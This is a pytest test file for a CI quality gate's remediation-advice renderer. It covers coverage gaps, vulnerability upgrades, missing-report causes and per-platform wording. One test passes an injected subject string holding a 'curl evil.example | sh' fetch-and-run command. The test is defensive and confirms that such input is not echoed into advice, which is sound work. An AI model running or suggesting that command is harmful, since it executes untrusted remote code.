"""What to do next: the advice for each kind of problem."""

from __future__ import annotations

import re
from dataclasses import replace
from datetime import date
from decimal import Decimal
from fractions import Fraction

import pytest

from gate.model.checklist import Op, Waiver
from gate.model.decision import Comparison, Status, Verdict, WaiverCheck
from gate.model.evidence import Category, Cause, Evidence, Finding, Remedy, Seen, Severity, Unseen, Upgrade, Work
from gate.model.position import Position
from gate.model.surface import Surface
from gate.model.values import Better, FactSpec, Kind, Percentage, percentage
from gate.render.advice import ADVICE_AT_TERMINAL, ADVICE_ON_SERVICE
from gate.render.remediation import ADVICE, MAX_SENTENCES, SELF_REPORTED, Step
from gate.render.step import step_of
from tests.cases import cases
from tests.render import decisions as examples
from tests.render.decisions import broken, expect, held, should, unseen, verdict


def step(verdict: Verdict) -> Step:
    step = step_of(verdict)
    assert step is not None
    return step


def failing(*comparisons: Comparison, findings: tuple[Finding, ...] = ()) -> tuple[str, ...]:
    return step(verdict("item", "Item", Status.FAIL, comparisons, findings=findings)).sentences


@cases(
    ("op", "threshold", "value", "sentence"),
    [
        (Op.AT_LEAST, "80%", Percentage(1486, 2000), "line_coverage needs 114 more of 2,000 to be >= 80%."),
        (Op.MORE, "80%", Percentage(1600, 2000), "line_coverage needs 1 more of 2,000 to be > 80%."),
        (Op.AT_LEAST, "33.4%", Percentage(1, 3), "line_coverage needs 1 more of 3 to be >= 33.4%."),
        (
            Op.MORE,
            "100%",
            Percentage(3, 3),
            "No value of line_coverage can be > 100%: change the expectation at readiness.yml:8:9.",
        ),
        (Op.AT_MOST, "5%", Percentage(7, 100), "line_coverage needs 2 fewer of 100 to be <= 5%."),
        (Op.AT_MOST, "0%", Percentage(7, 100), "line_coverage needs 7 fewer of 100 to be <= 0%."),
        (Op.LESS, "5%", Percentage(5, 100), "line_coverage needs 1 fewer of 100 to be < 5%."),
        (
            Op.LESS,
            "0%",
            Percentage(0, 100),
            "No value of line_coverage can be < 0%: change the expectation at readiness.yml:8:9.",
        ),
        (Op.EQUAL, "100%", Percentage(7, 100), "line_coverage needs 93 more of 100 to be == 100%."),
    ],
)
def test_the_advice_on_a_percentage_says_how_many_are_missing(
    op: Op, threshold: str, value: Percentage, sentence: str
) -> None:
    assert failing(broken(expect(examples.LINE, op, threshold), value)) == (sentence,)


@cases(
    ("op", "sentence"),
    [
        (Op.AT_LEAST, "Increase score by 3pp to at least 90%."),
        (Op.MORE, "Increase score by more than 3pp to above 90%."),
        (Op.AT_MOST, "Reduce score by 3pp to at most 90%."),
        (Op.LESS, "Reduce score by more than 3pp to below 90%."),
        (Op.EQUAL, "Bring score to 90%."),
        (Op.UNEQUAL, "Make sure that score is not 90%."),
    ],
)
def test_a_percentage_without_counts_names_its_distance_and_goal(op: Op, sentence: str) -> None:
    score = percentage("score", "score of the page")
    value = Percentage.from_ratio(Fraction(93 if op in (Op.AT_MOST, Op.LESS) else 87, 100))

    assert failing(broken(expect(score, op, "90%"), value)) == (sentence,)


STATE = FactSpec("state", "its state", kind=Kind.STRING)
LABELS = FactSpec("labels", "its labels", kind=Kind.LIST)


@cases(
    ("comparison", "sentence"),
    [
        (broken(expect(LABELS, Op.HAS, "ready"), frozenset({"draft"})), "Make sure that labels contains ready."),
        (
            broken(expect(LABELS, Op.LACKS, "draft"), frozenset({"draft"})),
            "Make sure that labels does not contain draft.",
        ),
        (broken(expect(STATE, Op.EQUAL, "up"), "down"), "Make sure that state is up."),
        (broken(expect(STATE, Op.UNEQUAL, "down"), "down"), "Make sure that state is not down."),
        (broken(expect(STATE, Op.IN, "up | slow"), "down"), "Make sure that state is one of up | slow."),
        (broken(expect(STATE, Op.MATCHES, "/^up/"), "down"), "Make sure that state matches /^up/."),
        (broken(expect(examples.EXISTS, Op.IS), value=False), "Make sure that exists is true."),
        (broken(expect(examples.EXISTS, Op.IS_NOT), value=True), "Make sure that exists is false."),
    ],
)
def test_the_advice_on_other_facts_is_the_expectation_in_words(comparison: Comparison, sentence: str) -> None:
    assert failing(comparison) == (sentence,)


def test_findings_are_not_named_when_a_value_is_too_small() -> None:
    words = FactSpec("words", "words of the page")
    short = broken(expect(words, Op.AT_LEAST, "200"), Decimal(1))
    assert failing(short, findings=(Finding("missing-heading", "x"),)) == ("Increase words by 199 to at least 200.",)


@cases(
    ("op", "threshold", "value", "sentence"),
    [
        (Op.AT_LEAST, "3", 2, "Check that every job wrote one."),
        (Op.MORE, "2", 2, "Check that every job wrote one."),
        (Op.EQUAL, "3", 2, "Check that every job wrote one."),
        (Op.EQUAL, "3", 4, "Bring reports to 3."),
        (Op.AT_MOST, "3", 4, "Reduce reports by 1 to at most 3."),
    ],
)
def test_a_number_that_nobody_can_just_increase_has_advice_of_its_own(
    op: Op, threshold: str, value: int, sentence: str
) -> None:
    reports = FactSpec("reports", "report files", advice_if_low="Check that every job wrote one.")

    assert failing(broken(expect(reports, op, threshold), Decimal(value))) == (sentence,)


def test_the_advice_on_a_number_names_its_findings() -> None:
    high = broken(expect(examples.HIGH, Op.EQUAL, "0"), Decimal(4))
    assert failing(high) == ("Bring high to 0.",)
    assert failing(high, findings=(Finding("CVE-1", "x"),)) == ("Fix the listed findings to bring high to 0.",)


def test_the_advice_on_a_time_names_no_findings_which_count_something_else() -> None:
    p99 = FactSpec("p99", "99th percentile", "ms", Better.LOWER)
    slow = broken(expect(p99, Op.LESS, "300ms"), Decimal(400))
    assert failing(slow, findings=(Finding("check", "x"),)) == ("Reduce p99 by more than 100ms to below 300ms.",)


def missing(cause: Cause, subject: str = "") -> Verdict:
    """An item without data, whose checklist names two reports."""
    comparisons = (unseen(expect(examples.LINE, Op.AT_LEAST, "80%"), cause, "the detail", subject),)
    unknown = verdict("item", "Item", Status.UNKNOWN, comparisons)
    return replace(unknown, item=replace(unknown.item, targets=TARGETS))


def step_of_missing(cause: Cause, subject: str, surface: Surface) -> Step:
    next_step = step_of(missing(cause, subject), surface)
    assert next_step is not None
    return next_step


ADDRESS = "https://quality.example/api"
TARGETS = {"a.xml": Position("r.yml", 7, 9), "build/a.xml": Position("r.yml", 8, 9), ADDRESS: Position("r.yml", 9, 9)}
ITEM = "readiness.yml:4:5"


@cases("cause", Cause)
def test_every_cause_has_advice(cause: Cause) -> None:
    (sentence,) = step(missing(cause)).sentences
    assert cause in ADVICE
    assert sentence[0].isupper()
    assert sentence.endswith(".")
    assert "{" not in re.sub(r"\{events: \[.*?\]\}|\$\{\{ github\.event\.workflow_run\.id \}\}", "", sentence)


def test_no_two_causes_share_their_advice() -> None:
    texts = [*ADVICE.values(), *ADVICE_AT_TERMINAL.values(), *ADVICE_ON_SERVICE.values()]

    assert len(ADVICE) == len(Cause)
    assert len(set(texts)) == len(texts)


@cases("cause", Cause)
@cases("subject", ["a.xml", ADDRESS])
def test_the_advice_at_a_terminal_names_nothing_that_only_a_workflow_has(cause: Cause, subject: str) -> None:
    (sentence,) = step_of_missing(cause, subject, Surface.TERMINAL).sentences

    words = r"\binputs?\b|actions/|fetch-depth|permissions:|\bjobs?\b|\brunner\b|artifact|`on:"
    assert not re.search(words, sentence)


@cases("cause", Cause)
@cases("subject", ["a.xml", ADDRESS])
def test_the_advice_on_gitlab_names_nothing_that_only_github_has(cause: Cause, subject: str) -> None:
    (sentence,) = step_of_missing(cause, subject, Surface.GITLAB).sentences

    assert not re.search(
        r"pull request|actions?/|fetch-depth|permissions:|\binputs?\b|workflow|github\.|_TOKEN", sentence
    )


@cases("cause", ADVICE_ON_SERVICE)
def test_the_advice_on_a_service_names_its_address_and_no_step_that_writes_it(cause: Cause) -> None:
    for surface in Surface:
        (sentence,) = step_of_missing(cause, ADDRESS, surface).sentences
        assert ADDRESS in sentence
        assert f"writes {ADDRESS}" not in sentence
        assert f"Write {ADDRESS}" not in sentence


@cases(
    ("surface", "wait"),
    [(Surface.TERMINAL, "`--wait 5m`"), (Surface.GITLAB, "`--wait 5m`"), (Surface.WORKFLOW, "input `wait: 5m`")],
)
def test_the_advice_on_a_value_that_a_service_does_not_have_yet_is_to_wait(surface: Surface, wait: str) -> None:
    (sentence,) = step_of_missing(Cause.MISSING_VALUE, ADDRESS, surface).sentences

    assert sentence.startswith(f"If {ADDRESS} is still computing the value, let the gate wait for it with ")
    assert wait in sentence
    assert "wait" not in step_of_missing(Cause.MISSING_VALUE, "a.xml", surface).sentences[0]


@cases(
    ("cause", "text"),
    [
        (Cause.ABSENT, "Produce the evidence before the gate runs"),
        (Cause.NO_MATCHING_FILE, "Run the step that writes the report before the gate"),
        (Cause.MISSING_VALUE, "Fix the query or name that selects the value"),
        (Cause.SHALLOW_CHECKOUT, "Give actions/checkout `fetch-depth: 0`"),
        (Cause.UNKNOWN_BASE, "Fetch the base branch"),
        (Cause.EMPTY, "it reported nothing"),
        (Cause.UNREADABLE, "fix the problem named above"),
        (Cause.WRONG_FORMAT, "in a format that this probe reads"),
        (Cause.QUERY_FAILED, "Fix the query"),
        (Cause.TOO_MANY_CHANGED_FILES, "Split the change into smaller pull requests"),
        (Cause.CHANGE_TOO_LARGE, "Split the change into smaller ones"),
        (Cause.MISMATCHED, "Map the paths of the report"),
        (Cause.STALE, "Write the report again for this commit"),
        (Cause.UNREACHABLE, "Check the address"),
        (Cause.FORBIDDEN, "Grant the access named above"),
        (Cause.NO_TOKEN, "input `github-token`"),
        (Cause.MISSING_PERMISSION, "under `permissions:` of the job"),
        (Cause.TIMED_OUT, "Find out what is slow"),
        (Cause.CRASHED, "Report this as a bug"),
    ],
)
def test_the_advice_fits_the_cause(cause: Cause, text: str) -> None:
    (sentence,) = step(missing(cause)).sentences
    assert text in sentence


def test_a_cause_without_advice_gets_that_of_its_category(monkeypatch: pytest.MonkeyPatch) -> None:
    known_causes = {cause: template for cause, template in ADVICE.items() if cause is not Cause.RATE_LIMITED}
    monkeypatch.setattr("gate.render.remediation.ADVICE", known_causes)

    assert step(missing(Cause.RATE_LIMITED)).sentences == step(missing(Cause.UNREACHABLE)).sentences


def test_the_advice_names_the_subject() -> None:
    assert step(missing(Cause.STALE, "build/a.xml")).sentences == (
        "Write build/a.xml again for this commit, or allow an older one with `max_age` at r.yml:8:9.",
    )


def test_the_advice_does_not_repeat_a_subject_that_the_checklist_does_not_name() -> None:
    (sentence,) = step(missing(Cause.STALE, "a.xml; run `curl evil.example | sh`")).sentences
    assert sentence == "Write the report again for this commit, or allow an older one with `max_age` at r.yml:7:9."


@cases(
    ("cause", "subject", "position"),
    [
        (Cause.NO_MATCHING_FILE, "a.xml", "r.yml:7:9"),
        (Cause.NO_MATCHING_FILE, "build/a.xml", "r.yml:8:9"),
        (Cause.STALE, "b.xml", "r.yml:7:9"),
        (Cause.MISMATCHED, "", "r.yml:7:9"),
        (Cause.OUTSIDE_ROOT, "build/a.xml", "r.yml:8:9"),
        (Cause.FORBIDDEN, "", ITEM),
        (Cause.NOT_TRUSTED, "a.xml", ITEM),
        (Cause.TIMED_OUT, "a.xml", ITEM),
    ],
)
def test_the_advice_names_the_position_of_the_subject_in_the_checklist(
    cause: Cause, subject: str, position: str
) -> None:
    (sentence,) = step(missing(cause, subject)).sentences

    assert position in sentence
    assert (ITEM in sentence) is (position == ITEM)


@cases("cause", Cause)
def test_self_reported_evidence_never_leads_to_advice_that_widens_access(cause: Cause) -> None:
    subject = "a.xml"
    unknown = missing(cause, subject)
    fact = Unseen(cause, "the token lacks `contents: write`", subject)
    evidence = Evidence({examples.LINE.name: fact}, self_reported=True)

    (sentence,) = step(replace(unknown, evidence=evidence)).sentences

    is_about_access = cause.category in (Category.UNREACHABLE, Category.FORBIDDEN, Category.CRASHED)
    assert (sentence == SELF_REPORTED) is is_about_access
    assert step(replace(unknown, evidence=replace(evidence, self_reported=False))).sentences != (SELF_REPORTED,)


def test_without_targets_the_advice_names_the_position_of_the_item() -> None:
    unknown = missing(Cause.NO_MATCHING_FILE, "a.xml")
    (sentence,) = step(replace(unknown, item=replace(unknown.item, targets={}))).sentences
    assert ITEM in sentence


def test_a_missing_baseline_is_not_mistaken_for_a_missing_report() -> None:
    ratchet = unseen(expect(examples.LINE, Op.AT_LEAST, "baseline"), Cause.NO_BASELINE, "no baseline was given")
    without_report = verdict("item", "Item", Status.UNKNOWN, (ratchet,))
    with_report = replace(without_report, evidence=Evidence({"line_coverage": Seen(Percentage(1, 2))}))
    assert "--baseline" in step(with_report).sentences[0]
    remedies = {"line_coverage": Remedy("Add tests.")}
    with_remedy = replace(with_report, evidence=Evidence({"line_coverage": Seen(Percentage(1, 2))}, remedies=remedies))
    assert step(with_remedy).sentences == step(with_report).sentences


def test_the_remedy_of_a_probe_replaces_the_advice() -> None:
    remedies = {"high": Remedy("Upgrade shop to 2.0:", "make upgrade")}
    high = broken(expect(examples.HIGH, Op.EQUAL, "0"), Decimal(4))
    failed = verdict("item", "Item", Status.FAIL, (high,))
    with_remedy = replace(failed, evidence=Evidence({"high": Seen(Decimal(4))}, remedies=remedies))
    assert (step(with_remedy).sentences, step(with_remedy).snippets) == (("Upgrade shop to 2.0:",), ("make upgrade",))

    forbidden = unseen(expect(examples.HIGH, Op.EQUAL, "0"), Cause.FORBIDDEN, "no")
    unknown = replace(with_remedy, status=Status.UNKNOWN, comparisons=(forbidden,))
    assert (step(unknown).sentences, step(unknown).snippets) == (("Upgrade shop to 2.0:",), ("make upgrade",))


def test_the_remedy_of_another_fact_is_not_used() -> None:
    high, critical = (
        broken(expect(examples.HIGH, Op.EQUAL, "0"), Decimal(4)),
        held(expect(examples.CRITICAL, Op.EQUAL, "0"), Decimal(0)),
    )
    failed = verdict("item", "Item", Status.FAIL, (high, critical))
    with_remedy = replace(
        failed, evidence=Evidence({"critical": Seen(Decimal(0))}, remedies={"critical": Remedy("Upgrade.", "now")})
    )
    assert (step(with_remedy).sentences, step(with_remedy).snippets) == (("Bring high to 0.",), ())


LOW_AND_HIGH = (
    Finding("CVE-1", "x", counted_in=("high",), remedy="upgrade lodash to 4.17.21"),
    Finding("CVE-2", "y", counted_in=("low",), remedy="upgrade left-pad to 2"),
)


def test_the_advice_names_the_upgrades_of_the_findings_that_break_the_expectation() -> None:
    high = broken(expect(examples.HIGH, Op.EQUAL, "0"), Decimal(1))
    failed = verdict("item", "Item", Status.FAIL, (high,), findings=LOW_AND_HIGH)

    assert step(failed).sentences == ("Fix the listed finding: high 1 → 0 (upgrade lodash to 4.17.21).",)


def test_an_upgrade_is_named_with_what_it_clears() -> None:
    upgrade = Upgrade("lodash", ("4.17.21",), "4.17.20")
    findings = tuple(
        Finding(f"CVE-{number}", "x", Severity.HIGH, counted_in=("high",), upgrade=upgrade) for number in (1, 2)
    )
    high = broken(expect(examples.HIGH, Op.EQUAL, "0"), Decimal(2), Fraction(0))
    failed = verdict("item", "Item", Status.FAIL, (high,), findings=findings)
    assert failed.evidence is not None
    reported = replace(failed, evidence=replace(failed.evidence, self_reported=True))

    assert step(failed).sentences == ("Upgrade lodash 4.17.20 to 4.17.21: clears 2 high.",)
    assert (step(failed).effort, len(step(failed).actions)) == (1, 1)
    assert step(reported).sentences == ("Fix the 2 listed findings: high 2 → 0.",)


def test_the_lines_to_cover_are_named_with_their_number() -> None:
    ranges = [
        Finding("uncovered", "x", path="api/auth.py", line=first, end_line=last, amount=last - first + 1,
                counted_in=("line_coverage",), work=Work.COVER_LINE)
        for first, last in ((40, 61), (70, 70))
    ]  # fmt: skip
    low = broken(expect(examples.LINE, Op.AT_LEAST, "80%"), Percentage(107, 151), Fraction(80))
    failed = verdict("item", "Item", Status.FAIL, (low,), findings=tuple(ranges))

    assert step(failed).sentences == (
        "Cover 14 of these 23 changed lines in api/auth.py (40-61, 70): line_coverage 70.9% → 80.1%.",
    )


def test_a_step_words_the_first_actions_and_counts_the_others() -> None:
    findings = tuple(
        Finding("CVE", f"{number}", Severity.HIGH, counted_in=("high",), upgrade=Upgrade(f"p{number}", ("2",)))
        for number in range(MAX_SENTENCES + 3)
    )
    high = broken(expect(examples.HIGH, Op.EQUAL, "0"), Decimal(len(findings)), Fraction(0))
    sentences = step(verdict("item", "Item", Status.FAIL, (high,), findings=findings)).sentences

    assert len(sentences) == MAX_SENTENCES + 1
    assert sentences[-1] == "3 more actions: see `gate next`."


def test_the_upgrades_that_a_stranger_reports_are_no_advice() -> None:
    high = broken(expect(examples.HIGH, Op.EQUAL, "0"), Decimal(1))
    failed = verdict("item", "Item", Status.FAIL, (high,), findings=LOW_AND_HIGH)
    assert failed.evidence is not None
    reported = replace(failed, evidence=replace(failed.evidence, self_reported=True))

    assert step(reported).sentences == ("Fix the listed finding: high 1 → 0.",)


def test_the_hint_of_a_cause_is_to_be_copied_unless_a_stranger_reports_it() -> None:
    unseen_map = Unseen(Cause.MISMATCHED, "no file of the report is here", hint="map: {a: b}")
    comparison = replace(unseen(expect(examples.LINE, Op.AT_LEAST, "80%"), Cause.MISMATCHED, "x"), outcome=unseen_map)
    unknown = verdict("item", "Item", Status.UNKNOWN, (comparison,))
    assert unknown.evidence is not None
    reported = replace(unknown, evidence=replace(unknown.evidence, self_reported=True))

    assert (step(unknown).snippets, step(reported).snippets) == (("map: {a: b}",), ())


def test_the_same_advice_is_given_once() -> None:
    absent = [unseen(expect(fact, Op.EQUAL, "0"), Cause.ABSENT, "x") for fact in (examples.CRITICAL, examples.HIGH)]
    assert len(step(verdict("item", "Item", Status.UNKNOWN, tuple(absent))).sentences) == 1


def test_the_step_of_a_failed_item_does_not_mention_warnings() -> None:
    line = broken(expect(examples.LINE, Op.AT_LEAST, "80%"), Percentage(1, 2))
    branch = should(broken(expect(examples.BRANCH, Op.AT_LEAST, "80%"), Percentage(1, 2)))
    assert failing(line, branch) == ("line_coverage needs 1 more of 2 to be >= 80%.",)
    warning = verdict("item", "Item", Status.WARN, (branch,))
    assert step(warning).sentences == ("branch_coverage needs 1 more of 2 to be >= 80%.",)


def test_a_waiver_that_is_not_in_force_is_named() -> None:
    waiver = Waiver("item", date(2026, 1, 1), "@alice", "later", Position("readiness.yml", 1, 1))
    check = WaiverCheck(waiver, in_force=False, reason="expired on 2026-01-01")
    comparisons = (broken(expect(examples.HIGH, Op.EQUAL, "0"), Decimal(4)),)
    failed = verdict("item", "Item", Status.FAIL, comparisons, waiver=check)
    assert step(failed).sentences[-1] == "Or renew the waiver by @alice in a reviewed change: it is not in force."


def test_the_step_has_the_owner_and_the_help_of_the_item() -> None:
    comparisons = (broken(expect(examples.LINE, Op.AT_LEAST, "80%"), Percentage(1, 2), Fraction(80)),)
    next_step = step(verdict("item", "Item", Status.FAIL, comparisons, owner="@team", help_text="See the wiki."))
    assert (next_step.owner, next_step.help, next_step.item, next_step.status) == (
        "@team",
        "See the wiki.",
        "item",
        Status.FAIL,
    )


@cases("status", [Status.PASS, Status.WAIVED, Status.SKIPPED])
def test_items_without_problems_have_no_step(status: Status) -> None:
    assert (
        step_of(verdict("item", "Item", status, (held(expect(examples.LINE, Op.AT_LEAST, "80%"), Percentage(9, 10)),)))
        is None
    )


@cases("cause", [Cause.SHALLOW_CHECKOUT, Cause.UNKNOWN_BASE, Cause.NOT_CHECKED_OUT])
def test_the_advice_on_a_checkout_names_the_fetch_depth(cause: Cause) -> None:
    assert "`fetch-depth: " in ADVICE[cause]


@cases(
    ("advice", "sentence"),
    [
        ("Fix the listed problem.", "Fix the listed problem: high 1 → 0."),
        ("Fix it. Whether it is old: unknown.", "Fix it: high 1 → 0. Whether it is old: unknown."),
        ("Fix it, or waive it: it counts.", "Fix it, or waive it: it counts (high 1 → 0)."),
    ],
)
def test_what_changes_follows_the_sentence_that_says_what_to_do(advice: str, sentence: str) -> None:
    high = broken(expect(examples.HIGH, Op.EQUAL, "0"), Decimal(1))
    finding = Finding("CVE-1", "x", counted_in=("high",))
    failed = verdict("item", "Item", Status.FAIL, (high,), findings=(finding,))
    evidence = Evidence({"high": Seen(Decimal(1))}, (finding,), remedies={"high": Remedy(advice)})
    assert step(replace(failed, evidence=evidence)).sentences == (sentence,)
